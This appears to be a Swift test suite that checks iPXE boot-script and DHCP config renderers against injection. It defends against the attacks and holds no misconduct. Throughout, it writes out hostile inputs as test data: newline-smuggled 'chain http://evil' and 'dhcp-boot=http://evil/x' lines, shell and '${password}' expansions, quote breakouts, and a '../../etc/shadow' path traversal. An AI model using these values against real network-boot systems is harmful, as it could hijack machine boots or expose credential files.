import Foundation
import Domain
import Render
import Testing

/// Values built here bypass the Domain validators on purpose: the renderers must defend
/// themselves, so a hostile label or name can never add a line of its own.
@Suite struct InjectionTests {
    /// Lines that are commands an attacker would want (`chain …`, `dhcp-boot=…`) at a line start.
    private func injected(_ text: String, _ prefix: String) -> Bool {
        text.split(separator: "\n").contains { $0.trimmingCharacters(in: .whitespaces).hasPrefix(prefix) }
    }

    @Test func hostileLabelStaysInsideItsMenuLine() throws {
        var plan = Fixtures.pc02Plan
        plan.entries[0].item.label = "Windows\n chain http://evil || shell ; ${password} #x"
        let script = try MachineScript.render(plan)
        #expect(!injected(script, "chain http://evil"))
        #expect(script.contains("item boot-win11 Windows_ chain http://evil __ shell _ __password_ _x\n"))
        #expect(script.split(separator: "\n").count == (try MachineScript.render(Fixtures.pc02Plan)).split(separator: "\n").count)
    }

    @Test func hostileMachineNameIsRefused() {
        var plan = Fixtures.pc01Plan
        plan.machine.name = "pc01\nchain http://evil"
        #expect(throws: RenderError.self) { try MachineScript.render(plan) }
        var blocked = Fixtures.blocked
        blocked.name = "x y"
        #expect(throws: RenderError.self) { try BootScripts.notAllowed(machine: blocked, baseURL: Fixtures.baseURL) }
    }

    @Test func hostileBootItemNameIsRefused() {
        var plan = Fixtures.pc02Plan
        plan.entries[0].item.name = "win11\ngoto evil"
        #expect(throws: RenderError.self) { try MachineScript.render(plan) }
    }

    @Test func hostileCommandLineIsRefused() {
        for cmdline in ["quiet\nchain http://evil", "quiet || chain http://evil", "quiet ; shell", "a=${password}", "x\"y"] {
            var plan = Fixtures.pc01Plan
            plan.entries[3].item.cmdline = cmdline
            #expect(throws: RenderError.self, "cmdline \(cmdline)") { try MachineScript.render(plan) }
        }
    }

    @Test func hostileURLsAndPathsAreRefused() {
        var chain = Fixtures.pc01Plan
        chain.entries[4].item.url = "http://ok/\nchain http://evil"
        #expect(throws: RenderError.self) { try MachineScript.render(chain) }
        var kernel = Fixtures.pc01Plan
        kernel.entries[3].item.kernel = "../../etc/shadow"
        #expect(throws: RenderError.self) { try MachineScript.render(kernel) }
        var wim = Fixtures.pc01Plan
        wim.entries[2].item.files = ["boot.wim x"]
        #expect(throws: RenderError.self) { try MachineScript.render(wim) }
        var filename = Fixtures.pc02Plan
        filename.entries[0].item.sanFilename = "\\EFI\\x.efi || shell"
        #expect(throws: RenderError.self) { try MachineScript.render(filename) }
        #expect(throws: RenderError.self) { try BootScripts.generic(baseURL: "http://x/ ${y}") }
    }

    @Test func hostileCHAPSecretAndIQNAreRefused() {
        var secret = Fixtures.pc01Plan
        secret.entries[0].iscsi?.chap?.secret = "abc${x}def12345"
        #expect(throws: RenderError.self) { try MachineScript.render(secret) }
        var iqn = Fixtures.pc01Plan
        iqn.entries[0].iscsi?.targetIQN = "iqn.2022-10.x:pc01\nshell"
        #expect(throws: RenderError.self) { try MachineScript.render(iqn) }
    }

    @Test func iscsiItemWithoutDisksIsAMissingValue() {
        var plan = Fixtures.pc02Plan
        plan.entries[0].iscsi = nil
        #expect(throws: RenderError.missingValue(field: "bootItems[win11].iscsi", reason: "an iscsi item needs its target and LUNs")) {
            try MachineScript.render(plan)
        }
    }

    @Test func hostileMachineNameCannotInjectADnsmasqOrISCLine() {
        var input = Fixtures.dhcpInput
        input.machines[1].name = "pc02\ndhcp-boot=http://evil/x"
        #expect(throws: RenderError.self) { try DnsmasqConfig.full(input) }
        input.machines[0].name = "blocked\ndhcp-boot=http://evil/x"  // proxy mode names only blocked machines
        #expect(throws: RenderError.self) { try DnsmasqConfig.proxy(input) }
        input.machines[1].name = "pc02\"; filename \"evil"
        #expect(throws: RenderError.self) { try ISCDHCPConfig.render(input) }
    }

    @Test func hostileNetworkNameIsNeutralisedInComments() throws {
        var input = Fixtures.dhcpInput
        input.settings.dhcp.networkName = "lan\ndhcp-boot=http://evil/x"
        let conf = try DnsmasqConfig.full(input)
        #expect(!injected(conf, "dhcp-boot=http://evil"))
        #expect(!injected(try ISCDHCPConfig.render(input), "dhcp-boot=http://evil"))
    }

    @Test func bootURLWithQuoteOrCommaIsRefused() {
        var input = Fixtures.dhcpInput
        input.bootScriptURL = "http://x/boot.ipxe\";"
        #expect(throws: RenderError.self) { try ISCDHCPConfig.render(input) }
        input.bootScriptURL = "http://x/boot.ipxe,,6.6.6.6"
        #expect(throws: RenderError.self) { try DnsmasqConfig.full(input) }
    }
}
